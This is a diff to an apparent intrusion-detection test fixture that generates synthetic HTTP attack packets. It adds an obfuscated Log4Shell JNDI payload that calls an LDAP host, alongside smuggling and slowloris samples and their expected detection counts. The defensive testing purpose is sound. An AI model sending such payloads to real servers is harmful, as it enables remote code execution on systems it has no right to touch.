@@ -195,6 +195,9 @@ def http_attacks() -> tuple[Packets, Any, dict[str, int]]:
         [http(b"POST", b"/", [b"Content-Length: 0", b"Transfer-Encoding: chunked"], b"0\r\n\r\n")], 40005
     )
     out += http_exchange([http(b"GET", b"/", [b"Content-Length: -5"])], 40006)
+    # log4shell: a scanner's JNDI lookup, hidden behind Log4j's own lookups, in User-Agent
+    lookup = b"User-Agent: ${${::-j}${lower:N}di:${::-l}dap://198.18.0.9:1389/a}"
+    out += http_exchange([http(b"GET", b"/", [lookup])], 40008)
     slow: Packets = []
     conv = Tcp(slow, T0 + 1, C, 40007, S, 80).handshake()
     conv.send(0, b"GET / HTTP/1.1\r\nHost: shop.example\r\n").wait(15).send(0, b"X-a: 1\r\n").wait(15)
@@ -202,7 +205,7 @@ def http_attacks() -> tuple[Packets, Any, dict[str, int]]:
     out += slow
     out.sort(key=lambda p: p[0])
     return out, None, {"sql_injection": 2, "xss": 1, "struts_rce": 1, "http_smuggling": 1,
-                       "http_negative_length": 1, "http_slowloris": 1}  # fmt: skip
+                       "http_negative_length": 1, "http_slowloris": 1, "log4shell": 1}  # fmt: skip
 
 
 TUNNEL_NAME = "p2mwsg3l5a4i7bpnjvwygm4k3lh7yyk6dqjgyvlhjhtoo5sbbc3qabgn6s6etx.t.example.com"
